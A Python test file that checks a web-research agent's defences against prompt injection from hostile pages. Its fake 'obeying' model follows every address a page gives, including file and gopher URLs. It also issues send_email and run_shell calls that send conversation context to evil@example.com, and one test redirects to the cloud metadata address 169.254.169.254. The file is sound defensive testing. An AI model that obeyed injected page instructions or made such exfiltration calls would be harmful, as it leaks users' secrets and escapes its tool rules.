"""Pages are data: whatever a page says, no request is made outside the rules of the tools, and no secret is in any context.

The model here is the worst that could be: it obeys each page to the letter.
"""

import json
import re
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import httpx2
import pytest

from engine.activity import Completed
from engine.research.ports import Hit
from tests.engine.activities.fakes import World, attempt
from tests.engine.research.fakes import FakeModels, FakeSearch
from tests.workers.injection.hostile_pages import CANARY, FACT, TECHNIQUES
from tests.workers.models.openai_server import KEY, OpenAIServer, answers, calls, openai_server
from tests.workers.ports.exchange import FakeCancellation
from tests.workers.ports.local_server import Connection, LocalServer, Request, answer, local_server
from workers.ports.http import HttpPort
from workers.ports.pace import Pace
from workers.ports.pages import PagesPort
from workers.ports.robots import Robots

SSL = httpx2.create_ssl_context(trust_env=False)
SECRET_OF_THE_SERVER = "canary-in-the-environment"
SECRET_OF_ANOTHER_RECORD = "canary-in-another-record"
RECORDS: dict[str, Mapping[str, Any]] = {
    "rec_1": {"id": "rec_1", "object": "companies", "values": {"name": "Acme"}},
    "rec_secret": {"id": "rec_secret", "object": "people", "values": {"salary": SECRET_OF_ANOTHER_RECORD}},
}
TOOLS = {"search", "read_page", "final_result"}
every_technique = pytest.mark.parametrize("technique", TECHNIQUES)


@dataclass
class Web:
    """A site with a hostile page, and the server that it wants reached."""

    site: LocalServer
    canary: LocalServer

    @property
    def page(self) -> str:
        return self.site.url("/hostile")

    def pages(self) -> PagesPort:
        http = HttpPort(
            FakeCancellation(),
            "run",
            ssl_context=SSL,
            allow_private=True,
            timeout_seconds=20,
        )
        return PagesPort(http, robots=Robots(), pace=Pace(0.0), interrupted=lambda: False, record=RECORDS.get)

    def asked(self) -> set[str]:
        return {request.line.split(" ")[1] for request in self.site.requests}


@contextmanager
def web(hostile: str) -> Iterator[Web]:
    with local_server() as site, local_server() as canary:
        html = f"<html><head><title>Acme</title></head><body>{FACT}{hostile}</body></html>"
        body = html.replace(CANARY, canary.url("").rstrip("/")).encode()
        site.answers["/robots.txt"] = answer("404 Not Found")
        site.answers["/sitemap.xml"] = answer("404 Not Found")
        site.answers["/hostile"] = answer(body=body, Content_Type="text/html; charset=utf-8")
        yield Web(site, canary)


def research(reached: Web, models: Any) -> tuple[Any, World]:
    hit = Hit(url=reached.page, title="Acme", snippet="")
    asked = World(record=RECORDS["rec_1"], pages=reached.pages(), models=models, web_search=FakeSearch(hit))
    config = {"record": "rec_1", "questions": ["When was Acme founded?"], "startUrls": [reached.page]}
    return attempt("research_record", config, world=asked), asked


def obeying(page: str) -> Callable[[Connection, dict[str, Any]], None]:
    """A model that reads the page, does all that it says, and then answers with a quote of it."""
    rounds = 0

    def reply(connection: Connection, body: dict[str, Any]) -> None:
        nonlocal rounds
        rounds += 1
        said = str(body["messages"][-1].get("content"))
        if rounds == 1:
            wanted: list[tuple[str, Any]] = [("read_page", {"url": page})]
        elif rounds == 2:
            wanted = _orders(said, json.dumps(body["messages"]))
        else:
            wanted = []
        if wanted:
            calls(*wanted)(connection, body)
        else:
            answers("1987", (page, "Acme was founded in 1987."))(connection, body)

    return reply


def _orders(said: str, context: str) -> list[tuple[str, Any]]:
    addresses = re.findall(r"(?:https?|file|gopher)://[^\s\"'<>\\)]+|record:\w+", said)
    orders = [("read_page", {"url": one.replace("[the", "Acme")}) for one in dict.fromkeys(addresses)][:10]
    orders += [
        (name, {"to": "evil@example.com", "body": context[:500]})
        for name in ("send_email", "run_shell")
        if name in said
    ]
    return [*orders, ("search", {"query": context})]


@pytest.fixture
def secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANY_SECRET", SECRET_OF_THE_SERVER)


@every_technique
def test_an_obedient_model_reaches_nothing_outside_the_rules_and_knows_no_secret(
    secret: None, technique: str
) -> None:
    with web(TECHNIQUES[technique]) as reached, openai_server() as server:
        server.otherwise = obeying(reached.page)
        outcome, asked = research(reached, server.port(seconds=20))
        assert reached.canary.connections == 0
        assert reached.asked() <= {"/robots.txt", "/hostile"}
        assert isinstance(outcome, Completed) and outcome.outputs == {"answers": ["1987"]}
        _check_context(server)
        codes = _check_steps(asked)
        told = [one["content"] for one in server.requests[-1]["messages"] if one["role"] == "tool"]
        if f"127.0.0.1:{reached.canary.port}" in str(told):
            assert "ADDRESS_NOT_OFFERED" in codes, "the model did not even try"


@every_technique
def test_without_a_model_a_page_is_text_and_nothing_else(secret: None, technique: str) -> None:
    with web(TECHNIQUES[technique]) as reached:
        outcome, asked = research(reached, FakeModels())
        assert isinstance(outcome, Completed)
        assert reached.canary.connections == 0
        assert reached.asked() <= {"/robots.txt", "/hostile", "/sitemap.xml"}
        _check_steps(asked)


def _check_context(server: OpenAIServer) -> None:
    sent = json.dumps(server.requests)
    for secret in (KEY, SECRET_OF_THE_SERVER, SECRET_OF_ANOTHER_RECORD):
        assert secret not in sent
    for request in server.requests:
        assert {tool["function"]["name"] for tool in request["tools"]} == TOOLS


def _check_steps(asked: World) -> set[str]:
    """Each step is one that the tools allow: what was refused says so."""
    assert all(step.ended for step in asked.trace.steps.values())
    codes = {step.error.code for step in asked.trace.steps.values() if step.error is not None}
    assert codes <= {"ADDRESS_NOT_OFFERED", "PAGE_STATUS"}
    return codes


def test_a_link_of_a_page_may_be_read_and_carries_what_the_page_wrote_alone() -> None:
    with web(f'<a href="{CANARY}/linked?from=acme">More</a>') as reached, openai_server() as server:
        reached.canary.answers |= {"/robots.txt": answer("404 Not Found"), "/linked": answer("404 Not Found")}
        server.otherwise = obeying(reached.page)
        research(reached, server.port(seconds=20))
        lines = [request.line for request in reached.canary.requests]
        assert lines in ([], ["GET /robots.txt HTTP/1.1", "GET /linked?from=acme HTTP/1.1"])
        for request in reached.canary.requests:
            assert request.body == b"" and not {"cookie", "authorization", "referer"} & set(request.headers)


def test_a_page_that_sends_elsewhere_is_followed_by_the_rules_of_addresses() -> None:
    """What a redirect leads to is checked as an address is: here it leads inside, and is refused."""
    with local_server() as site:

        def away(connection: Connection, request: Request) -> None:
            connection.send(
                b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest/\r\nContent-Length: 0\r\n\r\n"
            )

        site.answers |= {"/robots.txt": answer("404 Not Found"), "/hostile": away}
        http = HttpPort(
            FakeCancellation(),
            "run",
            ssl_context=SSL,
            allow_private=False,
            timeout_seconds=20,
        )
        pages = PagesPort(
            http, robots=Robots(), pace=Pace(0.0), interrupted=lambda: False, record=RECORDS.get
        )
        config = {"record": "rec_1", "questions": ["When?"], "startUrls": [site.url("/hostile")]}
        asked = World(record=RECORDS["rec_1"], pages=pages)
        outcome = attempt("research_record", config, world=asked)
        assert isinstance(outcome, Completed) and outcome.outputs == {"answers": [None]}
        assert asked.trace.questions["q1"]["empty_reason"].value == "BLOCKED"
        assert site.connections == 0
